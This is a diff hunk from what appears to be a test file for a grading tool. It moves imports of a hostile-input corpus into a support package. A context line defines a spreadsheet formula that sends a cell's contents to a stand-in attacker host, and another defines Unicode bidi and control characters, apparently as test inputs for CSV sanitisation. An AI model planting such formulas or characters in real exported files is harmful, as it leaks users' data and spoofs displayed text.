@@ -20,8 +20,9 @@ from grader.portal.commands import _codes_csv
 from grader.progress import Progress
 from grader.results import write_grades_csv, write_json
 from grader.untrusted import csv_plain, csv_text, identifier
-from tests.hostile import corpus
-from tests.test_hostile import ROOT, grader_env
+from tests.support.hostile import corpus
+from tests.support.paths import ROOT
+from tests.support.runs import grader_env
 
 RLO, LRI, PDI, ZWNJ, ESC = "\u202e", "\u2066", "\u2069", "\u200c", "\x1b"
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
